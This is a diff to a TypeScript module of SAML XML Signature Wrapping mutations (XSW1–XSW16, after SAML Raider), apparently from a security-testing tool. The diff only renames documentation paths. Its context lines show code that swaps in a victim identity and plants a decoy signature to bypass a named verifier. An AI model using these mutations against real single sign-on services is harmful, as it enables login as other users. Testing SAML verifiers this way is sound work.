@@ -1,5 +1,5 @@
 /**
- * @module XML Signature Wrapping mutations (attacks.md §B): SAML Raider's XSW1–XSW8 step for step
+ * @module XML Signature Wrapping mutations (docs/attacks.md §B): SAML Raider's XSW1–XSW8 step for step
  * (CompassSecurity/SAMLRaider `XSWHelpers.java`), and the XSW-09..16 variants. `first(X)` is the first
  * element with local name X in document order, any namespace — SAML Raider's
  * `getElementsByTagNameNS("*", X).item(0)`. Every step throws when its target is missing, so a change
@@ -26,7 +26,7 @@ export const EVIL_RESPONSE_ID = '_evil_response_ID';
 export const EVIL_ASSERTION_ID = '_evil_assertion_ID';
 /** XSW-14: a second assertion with an ID of its own ("no ID games"). */
 export const FORGED_ASSERTION_ID = '_forged_assertion_ID';
-/** A forged ID as attacks.md names it, made unique to this response (see MutationContext.nonce). */
+/** A forged ID as docs/attacks.md names it, made unique to this response (see MutationContext.nonce). */
 export function forgedId(base: string, ctx: MutationContext): string {
   return `${base}_${ctx.nonce}`;
 }
@@ -38,7 +38,7 @@ function wrap(name: string, apply: (doc: Document, ctx: MutationContext) => void
   return { name, stage: 'after-sign', apply };
 }
 
-/** SWAP (attacks.md §0) on one subtree; throws if the baseline identity does not occur in it. */
+/** SWAP (docs/attacks.md §0) on one subtree; throws if the baseline identity does not occur in it. */
 export function swapIn(element: Element, ctx: MutationContext): void {
   if (replaceText(element, ctx.identities.baseline, ctx.identities.victim) === 0)
     throw new Error(`SWAP: the baseline identity does not occur in <${element.localName}>`);
@@ -167,7 +167,7 @@ export function xsw8(): DomMutation {
     removeOwnSignature(copy);
     const object = doc.createElement('Object');
     // Our Signature declares the dsig namespace as default, so without xmlns="" a re-parse would read
-    // <Object> as ds:Object; attacks.md's XSW8 wants a no-namespace element.
+    // <Object> as ds:Object; docs/attacks.md's XSW8 wants a no-namespace element.
     object.setAttributeNS(XMLNS_NS, 'xmlns', '');
     signature.appendChild(object);
     object.appendChild(copy);
@@ -265,7 +265,7 @@ export function unsignedAssertionAfter(): DomMutation {
 /**
  * XSW-15: right after A's real Signature, a decoy <ds:Signature> with the same SignatureValue and a
  * SWAPped <Subject> in a <ds:Object>. A verifier that strips every Signature with that value before
- * digesting (as attacks.md reports for xml-crypto ≥6.0.0) leaves the decoy outside the digest, and
+ * digesting (as docs/attacks.md reports for xml-crypto ≥6.0.0) leaves the decoy outside the digest, and
  * first(NameID) is now the victim.
  */
 export function decoySignature(): DomMutation {
